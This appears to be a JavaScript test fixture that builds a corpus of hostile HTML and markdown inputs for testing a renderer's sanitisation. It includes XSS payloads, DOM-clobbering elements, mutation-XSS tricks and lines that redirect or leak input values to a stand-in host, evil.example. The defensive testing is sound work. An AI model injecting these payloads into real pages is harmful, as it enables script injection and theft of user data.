// Hostile texts: every second one of package markup's corpus, all of which its
// own tests show to a browser, and what only a whole page can
// be attacked by.
import { readFileSync } from 'node:fs';

const corpus = readFileSync(new URL('../../internal/markup/testdata/attacks.txt', import.meta.url), 'utf8')
  .split('\n').filter((line) => line && !line.startsWith('#')).map((line) => JSON.parse(line)).filter((line, i) => i % 2 === 0 && !line.includes('claim:')); // a text that names a claim that is not there is not published

const page = [
  '<form id="config" name="forms"><input name="body"><input name="action"><input name="elements"></form>',
  '<img name="cookie"><img name="body"><img id="getElementById"><img name="querySelector">',
  '<a id="main"></a><a id="main" name="focus"></a><div id="details"></div><div id="publish" popover></div>',
  '<form data-editor="1"><textarea name="body">x</textarea><div data-tools></div></form>',
  '<div data-preview-body data-state data-words data-kept-take></div><button form="posts" formaction="//evil.example/">x</button>',
  '<div class="found current" role="listbox" aria-label="Blocks" id="slash-menu"></div>',
  '<template><img src=x onerror=alert(1)></template><div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><div></form><form id=x><input name=innerHTML><img src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=//evil.example/"><base href="//evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>',
  '<p style="background:url(//evil.example/p.png)">x</p><style>@import "//evil.example/s.css"; input[value^=a]{background:url(//evil.example/a)}</style>',
  '# x" onmouseover=alert(1) {#config .button onclick=alert(1)}',
  '[x](/a "\\" onmouseover=alert(1) x=\\"")', '[x](java&#9;script:alert(1)) [y](&#1;javascript:alert(1)) <javascript:alert(1)> <data:text/html,x>',
  '[x](javascript:alert(1)){.button}', '[x](vbscript:x){.bookmark site="<img src=x onerror=alert(1)>" image=//evil.example/x.png}',
  '![x" onerror=alert(1)](//evil.example/x.png "<img src=x onerror=alert(1)>"){width="x onload=alert(1)" credit="<svg onload=alert(1)>"}',
  '| <img src=x onerror=alert(1)> | `<script>alert(1)</script>` |\n|---|---|\n| [x](javascript:alert(1)) | <svg onload=alert(1)> |',
  '> [!NOTE] <img src=x onerror=alert(1)>\n> <script>alert(1)</script>', '::: toggle <svg onload=alert(1)>\n<details open ontoggle=alert(1)>x</details>\n:::',
  '::: gallery <img src=x onerror=alert(1)>\n![x](//evil.example/g.png)\n:::', 'Note[^<img/src=x>] and[^a].\n\n[^a]: <img src=x onerror=alert(1)>',
  'https://evil.example/embed?"><script>alert(1)</script>', '\u2028</script><script>alert(1)</script>\u2029',
  '```html"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```', '~~~ x onclick=alert(1)\n</code></pre><svg onload=alert(1)>\n~~~',
];

// What no vector leaves open may swallow the next.
const shut = '\n\n</script></style></pre></textarea></title></xmp> ?> --> ]]>\n\n';
const opens = (text) => /^\s*(```|~~~|:::)/m.test(text) && !page.includes(text);

export const attacks = [...page, ...corpus.filter((one) => !opens(one)), ...corpus.filter(opens)];
// Fences of the corpus that stay open come last.
// Characters that no form may hold are refused as a whole, which other tests see.
export const hostileBody = attacks.join(shut).replace(/[\0-\x08\x0b-\x1f\x7f]/g, '') + '\n\n```\n\nlast words';
export const hostileWords = '</script></title><img src=x onerror=alert(1)>"\'';
